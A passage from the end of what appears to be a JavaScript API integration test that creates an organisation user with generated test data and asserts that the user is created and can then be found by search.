  const made = await s.req('POST', `/api/v1/orgs/${org}/users`, { token: s.adminToken, body: { first_name: 'Na', last_name: `Later${stamp}`, email: `na@defer-${stamp}.test` } });
  assert.equal(made.status, 201);
  assert.deepEqual(await q(`later${stamp}`), [`na@defer-${stamp}.test`]);
});
